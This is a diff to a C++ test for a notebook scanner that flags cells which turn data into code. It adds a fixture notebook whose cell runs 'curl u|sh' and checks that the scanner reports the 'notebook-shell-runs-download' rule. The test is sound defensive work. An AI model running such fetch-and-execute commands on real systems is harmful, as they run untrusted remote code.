@@ -48,6 +48,10 @@ TEST(InspectNotebook, CellsThatTurnDataIntoCodeAreFound) {
   EXPECT_EQ(rules(notebook, "n.ipynb"),
             "notebook-runs-data\nnotebook-shell-runs-download\nnotebook-shell-filled-in\n");
   EXPECT_FALSE(inspect(as_bytes(notebook.substr(0, 60)), {.name = "n"}).complete());
+  const std::string constant =
+      R"x({"cells":[{"cell_type":"code","source":"import os\nos.system('ls')\nos.system('curl u|sh')"}],)x"
+      R"x("metadata":{},"nbformat":4,"nbformat_minor":5})x";
+  EXPECT_EQ(rules(constant, "n.ipynb"), "notebook-shell-runs-download\n");
 }
 
 // (lambda x: x).__code__ marshalled by CPython 3.11, as far as it matters here.
